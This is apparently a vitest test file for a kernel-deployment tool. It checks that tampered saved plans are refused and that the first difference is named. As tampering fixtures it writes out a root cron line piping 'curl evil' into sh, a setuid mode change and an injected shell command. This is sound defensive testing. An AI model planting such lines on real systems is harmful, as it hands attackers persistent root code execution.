/**
 * A saved plan is a claim: `apply FILE` plans again and refuses, naming the first difference, a
 * file whose changes or steps say something else than the fresh plan; it executes the fresh plan,
 * never the file's. Titles (and reasons) are display text: a title edited alone is applied, with
 * the fresh plan's titles (documented in src/plan/compare.ts). Pure: real plans from a golden case.
 */
import { describe, expect, it } from 'vitest';
import { PlanMismatchError, StalePlanError } from '../../../src/engine/errors.js';
import type { PlannedHost } from '../../../src/engine/planning.js';
import { adoptSavedPlan } from '../../../src/engine/saved-plan.js';
import type { Change, HostPlan, SavedHostPlan, SavedPlan, Step } from '../../../src/plan/types.js';
import { planCase } from '../../helpers/plan-fixtures.js';
import { plannedHost, savedOf } from '../../helpers/saved-plans.js';

const c = planCase('version-bump-prune');

/** The host as apply has it after planning again: its fresh plan, facts and kernelfile. */
function fresh(): PlannedHost {
  return plannedHost('web-1', 'version-bump-prune');
}

/** The one-host saved plan as `plan --out` writes it (JSON, read back), its host plan edited by `edit`. */
function saved(edit: (h: HostPlan) => void = () => {}): SavedPlan {
  const doc = savedOf([plannedHost('web-1', 'version-bump-prune')], {});
  edit((doc.hosts[0] as SavedHostPlan).plan);
  return doc;
}

const change = (h: HostPlan, prefix: string) => h.changes.find((x) => x.id.startsWith(prefix)) as Change;
const stepOf = <K extends Step['kind']>(x: Change, kind: K, n = 0) =>
  x.steps.filter((s) => s.kind === kind)[n] as Extract<Step, { kind: K }>;

function refusal(edit: (h: HostPlan) => void): string {
  const host = fresh();
  const before = host.plan;
  try {
    adoptSavedPlan(host, saved(edit), 'web.plan');
  } catch (e) {
    expect(e).toBeInstanceOf(PlanMismatchError);
    expect(host.plan).toBe(before);
    const m = (e as Error).message;
    expect(m).toMatch(
      /^the saved plan web\.plan does not match a fresh plan for web-1: .*\. Nothing was changed$/,
    );
    expect((e as PlanMismatchError).hint).toContain(
      'kernelfile plan kernelfile.yaml --host web-1 --out web.plan',
    );
    return m;
  }
  throw new Error('the tampered plan was accepted');
}

describe('a saved plan equal to the fresh one', () => {
  it('is accepted, and the host keeps the fresh plan (the one executed)', () => {
    const host = fresh();
    const mine = host.plan;
    adoptSavedPlan(host, saved(), 'web.plan');
    expect(host.plan).toBe(mine);
  });

  it('titles are display text: a title edited alone is accepted, and the fresh titles are what runs', () => {
    const host = fresh();
    adoptSavedPlan(
      host,
      saved((h) => {
        stepOf(change(h, 'initramfs['), 'write').title = 'harmless looking title';
        change(h, 'kernel[').reason = 'because';
      }),
      'web.plan',
    );
    expect(host.plan.changes.flatMap((x) => x.steps.map((s) => s.title))).not.toContain(
      'harmless looking title',
    );
  });

  it('a stale plan keeps its staleness message (facts changed)', () => {
    const host = fresh();
    host.facts = { ...host.facts, digest: 'f'.repeat(64) };
    expect(() => adoptSavedPlan(host, saved(), 'web.plan')).toThrow(StalePlanError);
    expect(() => adoptSavedPlan(host, saved(), 'web.plan')).toThrow(
      /is stale for web-1: the facts of .* changed/,
    );
  });
});

describe('a tampered saved plan is refused, naming the first difference', () => {
  it('write path: /etc/cron.d/x instead of the initramfs hook', () => {
    const m = refusal((h) => {
      stepOf(change(h, 'initramfs['), 'write').path = '/etc/cron.d/x';
    });
    expect(m).toContain(
      `change initramfs[${c.desired.release}] step 1 (write /etc/cron.d/x): path /etc/cron.d/x, the fresh plan has /etc/initramfs-tools/hooks/kernelfile`,
    );
  });

  it('write content: shown as digests, never echoed', () => {
    const m = refusal((h) => {
      stepOf(change(h, 'initramfs['), 'write').content = '* * * * * root curl evil | sh\n';
    });
    expect(m).toMatch(
      /step 1 \(write \/etc\/initramfs-tools\/hooks\/kernelfile\): content sha256 [0-9a-f]{12}, the fresh plan has sha256 [0-9a-f]{12}/,
    );
    expect(m).not.toContain('curl');
  });

  it('write mode', () => {
    const m = refusal((h) => {
      stepOf(change(h, 'initramfs['), 'write').mode = 0o4755;
    });
    expect(m).toContain('mode 04755, the fresh plan has 0755');
  });

  it('run argv', () => {
    const m = refusal((h) => {
      stepOf(change(h, 'kernel['), 'run', 1).argv = ['sh', '-c', 'touch /tmp/x'];
    });
    expect(m).toContain(
      `change kernel[${c.desired.release}] step 4 (run sh -c touch /tmp/x): argv sh -c touch /tmp/x, the fresh plan has depmod -a ${c.desired.release}`,
    );
  });

  it('sudo', () => {
    const m = refusal((h) => {
      const st = stepOf(change(h, 'default-entry'), 'run');
      st.sudo = !st.sudo;
    });
    const was = stepOf(change(c.plan, 'default-entry'), 'run').sudo;
    expect(m).toContain('change default-entry step 1 (run grub-editenv');
    expect(m).toContain(`sudo ${!was}, the fresh plan has ${was}`);
  });

  it('step kind: a run turned into a write', () => {
    const m = refusal((h) => {
      const x = change(h, 'default-entry');
      x.steps[0] = {
        kind: 'write',
        title: 'x',
        path: '/etc/cron.d/x',
        content: 'x',
        mode: 0o644,
        sudo: false,
      };
    });
    expect(m).toContain(
      'change default-entry step 1 (write /etc/cron.d/x): kind write, the fresh plan has a run step',
    );
  });

  it('build id (of a ship step) and the receipt data', () => {
    expect(
      refusal((h) => {
        stepOf(change(h, 'kernel['), 'ship').buildId = 'a'.repeat(64);
      }),
    ).toContain('buildId aaaaaaaaaaaa, the fresh plan has');
    expect(
      refusal((h) => {
        stepOf(change(h, 'boot-entry['), 'receipt').data.name = 'someone-else';
      }),
    ).toMatch(/step 4 \(receipt .*\): data sha256 [0-9a-f]{12}, the fresh plan has sha256/);
  });

  it('ship destination (to)', () => {
    expect(
      refusal((h) => {
        stepOf(change(h, 'kernel['), 'ship').to = '/etc';
      }),
    ).toContain('to /etc, the fresh plan has /var/lib/kernelfile/staging/');
  });

  it('an added step, a removed step', () => {
    expect(
      refusal((h) => {
        change(h, 'default-entry').steps.push({ kind: 'run', title: 'x', argv: ['reboot'], sudo: false });
      }),
    ).toContain('change default-entry step 2 (run reboot): the fresh plan has no such step (1 steps)');
    expect(
      refusal((h) => {
        change(h, 'kernel[').steps.pop();
      }),
    ).toContain(
      `change kernel[${c.desired.release}]: the saved plan has no step 4, the fresh plan has run depmod`,
    );
  });

  it('an added change, a removed change', () => {
    expect(
      refusal((h) => {
        h.changes.push({ ...change(h, 'prune['), id: 'prune[6.1.0-99-amd64]' });
      }),
    ).toContain('change prune[6.1.0-99-amd64] is not in the fresh plan');
    expect(
      refusal((h) => {
        h.changes = h.changes.filter((x) => !x.id.startsWith('prune['));
      }),
    ).toMatch(/the saved plan lacks change prune\[/);
  });

  it('reordered changes', () => {
    const m = refusal((h) => {
      const i = h.changes.findIndex((x) => x.id === 'default-entry');
      const j = h.changes.findIndex((x) => x.id.startsWith('prune['));
      [h.changes[i], h.changes[j]] = [h.changes[j] as Change, h.changes[i] as Change];
    });
    expect(m).toMatch(
      /change \d+ is prune\[.*\], the fresh plan has default-entry there \(and prune\[.*\] as change \d+\)/,
    );
  });

  it('an action, the dependencies', () => {
    expect(
      refusal((h) => {
        change(h, 'default-entry').action = 'no-op';
      }),
    ).toContain('change default-entry: action no-op, the fresh plan has update');
    expect(
      refusal((h) => {
        change(h, 'prune[').dependsOn = [];
      }),
    ).toMatch(/change prune\[.*\]: depends on , the fresh plan has /);
  });

  it('a control character in a saved value is escaped in the message', () => {
    const m = refusal((h) => {
      stepOf(change(h, 'initramfs['), 'write').path = '/etc/x\n\u001b[2Jy';
    });
    expect(m.includes('\n') || m.includes('\u001b')).toBe(false);
    expect(m).toContain('/etc/x\\n\\u001b[2Jy');
  });
});
